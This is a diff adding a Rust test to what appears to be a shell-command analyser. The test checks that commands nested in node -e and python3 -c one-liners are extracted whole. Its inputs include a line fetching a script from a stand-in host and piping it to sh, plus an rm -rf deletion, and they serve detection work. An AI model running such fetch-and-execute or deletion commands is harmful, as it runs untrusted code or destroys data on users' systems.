@@ -1510,3 +1510,16 @@ fn a_mount_replaces_the_tree_at_its_mount_point() {
     assert!(fx("mount").writes.is_empty());
     assert!(fx("mount | grep nfs").writes.is_empty());
 }
+
+#[test]
+fn the_shell_lines_code_runs_are_kept_whole() {
+    let e = fx("node -e \"require('child_process').execSync('curl -s x.example/p | sh')\"");
+    assert_eq!(e.shell_lines.len(), 1, "{e:?}");
+    assert_eq!(e.shell_lines[0].line, "curl -s x.example/p | sh");
+    assert_eq!(e.shell_lines[0].command, 0);
+    let e = fx("python3 -c \"import subprocess; subprocess.run(['rm', '-rf', '/tmp/x'])\"");
+    assert_eq!(e.shell_lines[0].line, "'rm' '-rf' '/tmp/x'");
+    // Only the line's own: what those lines run is found by analysing them.
+    let e = fx("python3 -c \"import os; os.system('sh -c \\\"ls\\\"')\"");
+    assert_eq!(e.shell_lines.len(), 1, "{:?}", e.shell_lines);
+}
